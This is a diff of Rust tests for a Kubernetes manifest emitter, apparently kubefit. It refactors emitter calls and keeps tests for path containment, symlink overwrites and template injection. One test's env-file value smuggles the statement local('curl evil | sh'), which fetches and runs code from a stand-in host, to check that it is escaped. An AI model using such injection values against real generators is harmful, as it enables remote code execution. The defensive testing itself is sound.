@@ -133,7 +133,9 @@ fn compose_names_and_keys_cannot_leave_the_output_directory() {
         )
         .volume(Volume::config_map("conf", &conf));
         let stack = Stack::new("shop").with(conf).with(app);
-        let err = stack.write_compose_dir(&out).unwrap_err();
+        let err = kubefit::Compose::new(&stack)
+            .and_then(|c| c.write_dir(&out))
+            .unwrap_err();
         assert!(
             matches!(&err, EmitError::Check(r) if r.with_id("invalid-key").count() == 1),
             "{key}: {err}"
@@ -145,7 +147,10 @@ fn compose_names_and_keys_cannot_leave_the_output_directory() {
         )
         .volume(Volume::secret("db", &secret));
         let stack = Stack::new("shop").with(secret).with(app);
-        assert!(stack.compose_files().is_err(), "{key}: secret file paths");
+        assert!(
+            kubefit::Compose::new(&stack).map(|c| c.files()).is_err(),
+            "{key}: secret file paths"
+        );
     }
     assert!(!out.exists());
     assert_eq!(
@@ -165,7 +170,9 @@ fn compose_output_is_atomic_and_contained() {
     )
     .volume(Volume::config_map("conf", &conf));
     let stack = Stack::new("shop").with(conf).with(app);
-    stack.write_compose_dir(&out).unwrap();
+    kubefit::Compose::new(&stack)
+        .and_then(|c| c.write_dir(&out))
+        .unwrap();
     assert_eq!(
         listing(&out),
         [OUTPUT_MARKER, "compose.yaml", "config/conf/app.toml"]
@@ -176,7 +183,11 @@ fn compose_output_is_atomic_and_contained() {
     std::fs::write(dir.path().join("victim"), "untouched").unwrap();
     std::os::unix::fs::symlink(dir.path().join("victim"), out.join("config/conf/app.toml"))
         .unwrap();
-    assert!(stack.write_compose_dir(&out).is_err());
+    assert!(
+        kubefit::Compose::new(&stack)
+            .and_then(|c| c.write_dir(&out))
+            .is_err()
+    );
     assert_eq!(
         std::fs::read_to_string(dir.path().join("victim")).unwrap(),
         "untouched"
@@ -216,7 +227,9 @@ fn compose_names_never_collide() {
         .with(web)
         .with(db.headless_service())
         .with(db);
-    let compose = stack.to_compose().unwrap();
+    let compose = kubefit::Compose::new(&stack)
+        .map(|c| c.to_yaml().to_owned())
+        .unwrap();
     let doc: serde_json::Value = serde_saphyr::from_str(&compose).unwrap();
     let configs = doc["configs"].as_object().unwrap();
     assert_eq!(configs.len(), 2, "{compose}");
@@ -402,13 +415,11 @@ fn a_253_character_name_emits() {
     assert_ne!(names[1], names[2], "distinct long names stay distinct");
     let dir = tempfile::tempdir().unwrap();
     m.write_dir(dir.path().join("out")).unwrap();
-    stack
-        .kustomize(&[], &EmitOptions::new())
+    kubefit::KustomizeTree::new(&stack, &[], &EmitOptions::new())
         .unwrap()
         .write_dir(dir.path().join("kz"))
         .unwrap();
-    stack
-        .helm_chart(&EmitOptions::new())
+    kubefit::HelmChart::new(&stack, &EmitOptions::new())
         .unwrap()
         .write_dir(dir.path().join("chart"))
         .unwrap();
@@ -460,8 +471,7 @@ fn control_characters_are_escaped_in_reports() {
 
 #[test]
 fn a_tiltfile_env_file_cannot_inject_code() {
-    let t = Stack::new("shop")
-        .tiltfile("k8s")
+    let t = kubefit::Tiltfile::new(&Stack::new("shop"), "k8s")
         .unwrap()
         .env_file(".env\nlocal('curl evil | sh')\n#");
     let text = t.to_string();
@@ -495,7 +505,7 @@ fn helm_template_holes_cannot_be_forged_by_data() {
             .resources(Resources::new().requests(Cpu::millis(100), Memory::mebibytes(64))),
     );
     let stack = Stack::new("shop").with(app);
-    let chart = stack.helm_chart(&EmitOptions::new()).unwrap();
+    let chart = kubefit::HelmChart::new(&stack, &EmitOptions::new()).unwrap();
     let template = &chart
         .files()
         .iter()
@@ -578,9 +588,9 @@ mod no_escape {
             let writes: Vec<Box<Writer>> = vec![
                 Box::new(|d| s.emit(&opts)?.write_dir(d)),
                 Box::new(|d| s.emit(&opts)?.write_json_dir(d)),
-                Box::new(|d| s.kustomize(&[], &opts)?.write_dir(d)),
-                Box::new(|d| s.helm_chart(&opts)?.write_dir(d)),
-                Box::new(|d| s.write_compose_dir(d)),
+                Box::new(|d| kubefit::KustomizeTree::new(&s, &[], &opts)?.write_dir(d)),
+                Box::new(|d| kubefit::HelmChart::new(&s, &opts)?.write_dir(d)),
+                Box::new(|d| kubefit::Compose::new(&s).and_then(|c| c.write_dir(d))),
             ];
             for write in &writes {
                 let dir = tempfile::tempdir().unwrap();
